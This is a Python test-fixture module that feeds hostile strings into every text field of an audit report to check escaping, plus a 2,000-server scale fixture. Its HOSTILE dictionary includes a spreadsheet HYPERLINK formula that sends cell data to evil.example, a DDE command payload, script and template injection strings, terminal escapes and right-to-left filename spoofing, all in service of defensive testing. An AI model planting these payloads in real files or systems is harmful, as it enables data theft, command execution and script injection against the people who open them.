"""Audits that are hard on a report: hostile in every text, or large."""

from __future__ import annotations

from auditor.audit import (
    Audit,
    CommandEntry,
    ComparedEntry,
    EstateEntry,
    EvidenceEntry,
    SourceRef,
    WaiverEntry,
)
from tests.reports.entries import (
    FINISHED,
    KB,
    finding,
    reached,
    server,
    step,
)
from tests.reports.sample import sample

# Everything a server could say to do harm in one report or another.
HOSTILE: dict[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|'/c calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "error value": "#N/A",
    "markup": "<script>alert('x')</script></style></details><img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }}{% raw %}{{ config }}",
    "rich markup": "[red]not red[/red] [link=http://evil.example]x[/link] [/]",
    "terminal": "\x1b[2J\x1b[31mred\x07\x9b31m",
    "right to left": "abc\u202egnp.exe\u2066 \u05e9\u05dc\u05d5\u05dd",
    "controls": "nul\x00 vt\x0b fs\x1c nel\x85 del\x7f",
    "non-character": "end\ufffe\uffff",
    "excel escape": "_x0041_ and _x000D_",
    "astral": "\U0001f4a3" * 30,
    "long": "long " * 8_000,
    "one word": "x" * 30_000,
    "format": "%s%n {0} {audit.run} ${x}",
    "apostrophe": "'quoted",
    "blank": "   ",
    "empty": "",
}


def hostile() -> Audit:
    """Every text that a server, a file or an operator could influence is an attack."""
    texts = tuple(HOSTILE.values())
    servers = tuple(
        server(
            text or "nameless",
            text,
            "unknown",
            site=text,
            roles=(text,),
            product_title=text,
            build=text,
            build_label=text,
            os_title=text,
            upgrade_domain=text,
            reason=text,
            reached=reached(
                "REACH-FAULT", False, sentence=text, hint=text, detail=text, origin=text
            ),
        )
        for text in texts
    )
    evil = SourceRef(key="evil", title=HOSTILE["markup"], url="javascript:alert(1)")
    findings = tuple(
        finding(
            "SFB-CU-001",
            text,
            "unknown",
            id=f"F-{index}",
            title=text,
            observed=text,
            required=text,
            reason=text,
            remediation=text,
            evidence=(EvidenceEntry(family="os", path=text, value=text),),
            compared=(ComparedEntry(name=text, observed=text, required=text, note=text),),
            waiver=WaiverEntry(who=text, why=text, until=FINISHED.date()),
            source=(evil, KB),
        )
        for index, text in enumerate(texts)
    )
    steps = tuple(
        step(
            index,
            1,
            text,
            text,
            pool=text,
            site=text,
            reason=text,
            impact=text,
            rollback=text,
            commands=(CommandEntry(text=text, shell="powershell", run_on=text),),
            source=(evil,),
        )
        for index, text in enumerate(texts, 1)
    )
    estate = EstateEntry(name=HOSTILE["markup"], source=HOSTILE["terminal"], notes=texts)
    return sample().model_copy(
        update={
            "estate": estate,
            "servers": servers,
            "pools": (),
            "findings": findings,
            "steps": steps,
            "sources": (evil, KB),
            "notes": texts,
        }
    )


def large(servers: int = 2_000) -> Audit:
    """An estate of 500 pools of four servers, each with a finding and a step."""
    names = [f"fe{number:04}.contoso.com" for number in range(servers)]
    return sample().model_copy(
        update={
            "servers": tuple(
                server(name, f"pool{i // 4:03}.contoso.com", "work_needed", reason="Too old.")
                for i, name in enumerate(names)
            ),
            "findings": tuple(finding("SFB-CU-001", name, "fail") for name in names),
            "steps": tuple(
                step(number, number % 40 + 1, name, "Install the cumulative update")
                for number, name in enumerate(names, 1)
            ),
        }
    )
